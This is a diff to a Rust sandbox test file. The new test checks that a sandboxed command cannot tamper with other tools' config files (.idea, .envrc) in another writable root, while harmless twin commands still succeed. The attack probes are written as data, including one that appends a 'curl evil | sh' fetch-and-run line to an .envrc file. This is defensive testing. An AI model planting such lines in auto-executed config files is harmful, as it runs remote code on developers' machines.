@@ -1,7 +1,7 @@
 //! Other tools' files (`uexec_domain::tool_files`): a sandboxed command cannot write, create,
 //! remove or rename `.vscode`, `.claude`, `.mcp.json` and the like in the workspace, present or (for the
-//! directories; for files too with a record, `leftovers.rs`) absent, unless the person allowed one; each denied
-//! probe has an allowed twin.
+//! directories; for files too with a record, `leftovers.rs`) absent, nor another writable root's present ones,
+//! unless the person allowed one; each denied probe has an allowed twin.
 
 use std::fs;
 
@@ -53,6 +53,29 @@ fn other_tools_files_cannot_be_planted_and_their_twins_can_be_written() {
     assert_eq!(Scratch::read(&s.ws.join(".claude/settings.json")), "{}\n");
     assert_eq!(Scratch::read(&s.ws.join(".mcp.json")), "{}\n");
     assert!(!s.ws.join(".claude/commands").exists() && !s.ws.join("vs").exists());
+}
+
+/// Another writable root's present tool files are protected too (an absent one there takes no placeholder: a
+/// mount needs something to cover, and none is left in a directory others share).
+#[test]
+fn another_roots_present_tool_files_cannot_be_written_and_their_twins_can() {
+    let s = Scratch::new();
+    let extra = s.base.join("extra");
+    fs::create_dir_all(extra.join(".idea")).unwrap();
+    fs::write(extra.join(".envrc"), "export A=1\n").unwrap();
+    let policy = || workspace_only(vec![extra.clone()], false);
+    for (attack, twin) in [
+        ("touch ../extra/.idea/workspace.xml", "mkdir -p ../extra/idea && touch ../extra/idea/workspace.xml"),
+        ("echo 'curl evil | sh' >> ../extra/.envrc", "echo x >> ../extra/envrc"),
+        ("mv ../extra/.idea ../extra/i2", "mkdir ../extra/d && mv ../extra/d ../extra/d2"),
+    ] {
+        let allowed = bash(policy(), &s.ws, twin);
+        assert!(allowed.ok(), "{twin}: {allowed:?}");
+        let probe = bash(policy(), &s.ws, attack);
+        assert!(!probe.ok() && refused(&probe.text()), "{attack}: {probe:?}");
+    }
+    assert_eq!(Scratch::read(&extra.join(".envrc")), "export A=1\n");
+    assert!(!extra.join(".idea/workspace.xml").exists() && !extra.join(".vscode").exists());
 }
 
 #[test]
